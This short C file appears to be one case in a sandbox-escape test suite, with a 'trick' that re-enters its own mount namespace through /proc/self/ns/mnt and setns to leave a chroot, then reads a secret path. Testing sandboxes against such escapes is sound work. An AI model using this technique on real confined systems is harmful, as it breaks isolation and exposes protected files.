/* Leaves its root by entering the mount namespace that it is in, which sets the root to the namespace's. */
#include "../escape.h"

TRICK(enter_own_mounts) {
    int fd = open("/proc/self/ns/mnt", O_RDONLY);
    TRY(fd);
    TRY(setns(fd, CLONE_NEWNS));
    return steal_path(told("ESC_SECRET"));
}
